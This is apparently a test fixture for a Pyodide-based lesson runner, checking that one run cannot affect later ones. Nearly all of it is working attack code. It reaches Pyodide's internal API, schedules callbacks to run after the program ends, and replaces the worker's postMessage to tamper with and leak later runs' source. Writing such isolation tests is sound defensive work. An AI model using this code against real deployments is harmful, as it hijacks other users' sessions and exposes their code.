# A lesson that tries to stay resident in the engine after its run: it digs Pyodide's
# JavaScript API out of the import hook, has `_api.scheduleCallback` call it back after the
# run has ended (with the worker's global object as `this`), and from there replaces
# `postMessage`, so that later runs would show its text and leak their source.
# Each step prints whether it worked. The runs after it must be untouched.
# expect-outcome: completed
# expect-message: planted
# resident-for: 7
import gc
import sys


def step(name, action):
    try:
        value = action()
    except BaseException as error:  # noqa: BLE001 - every failure is a result here.
        print(f"step {name}: no ({type(error).__name__}: {error})"[:300])
        return None
    print(f"step {name}: yes")
    return value


def pyodide_js_from_import_hook():
    return sys.modules["_pyodide._importhook"].jsfinder.jsproxies["pyodide_js"]


def pyodide_js_from_gc():
    for thing in gc.get_objects():
        if type(thing) is dict and "pyodide_js" in thing and hasattr(thing["pyodide_js"], "_api"):
            return thing["pyodide_js"]
    raise LookupError("no dict holds pyodide_js")


def core_module():
    for thing in gc.get_objects():
        if getattr(thing, "__name__", None) == "_pyodide_core":
            return thing
    raise LookupError("no _pyodide_core")


def taker(create_proxy):
    """A callback for the worker, after the run: `this` is then the worker's global object.
    (The run clears the program's globals when it ends: what it needs is bound here.)"""

    def take_over(this, *_):
        # Once, quietly: an error here would end the worker, and the attack with it.
        try:
            if getattr(this, "loopscopeResident", None) is None:
                this.loopscopeResident = True
                replace_post(this)
        except BaseException:  # noqa: BLE001
            pass

    def replace_post(this):
        post = this.postMessage

        def forged(message, *rest):
            text = getattr(message, "json", None) if message.type == "events" else None
            if isinstance(text, str):
                # A later run's source is in its run.start: read it, show this text instead.
                message.json = text.replace('"text":"', f'"text":"RESIDENT read {len(text)} chars: ')
            post.call(this, message, *rest)

        this.postMessage = create_proxy(forged)

    return create_proxy(take_over, capture_this=True)


api = step("reach pyodide_js through the import hook", pyodide_js_from_import_hook)
api = api or step("reach pyodide_js through the garbage collector", pyodide_js_from_gc)
schedule = step("reach _api.scheduleCallback", lambda: api._api.scheduleCallback)
create_proxy = step("reach create_proxy", lambda: core_module().create_proxy)
for delay in (0, 100, 1000, 5000):
    step(
        f"plant a callback {delay} ms after the run that replaces postMessage",
        lambda: schedule(taker(create_proxy), delay),
    )
print("planted what could be planted")
